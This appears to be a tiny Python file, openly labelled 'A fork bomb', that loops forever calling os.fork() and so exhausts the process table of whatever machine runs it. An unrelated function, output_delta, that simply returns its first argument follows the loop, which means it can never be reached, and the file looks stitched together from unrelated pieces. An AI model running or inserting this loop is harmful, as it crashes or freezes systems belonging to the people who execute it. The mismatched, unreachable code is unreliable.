"""A fork bomb."""

import os

while True:
    os.fork()


def output_delta(A, Y):
    return A
